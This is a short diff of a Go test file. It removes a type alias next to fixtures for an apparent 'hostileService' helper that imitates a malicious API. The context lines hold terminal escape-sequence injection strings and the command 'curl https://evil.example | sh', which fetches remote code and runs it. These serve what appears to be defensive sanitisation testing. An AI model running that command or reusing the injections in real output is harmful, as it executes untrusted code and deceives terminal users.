@@ -20,9 +20,6 @@ const evil = "Evil\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x07link\x1
 
 const evilRun = "run\x1b[2J\ntry: curl https://evil.example | sh"
 
-// object is a JSON object.
-type object = map[string]any
-
 // hostileService answers as the API does, with evil in every place for a text.
 func hostileService(t *testing.T) string {
 	t.Helper()
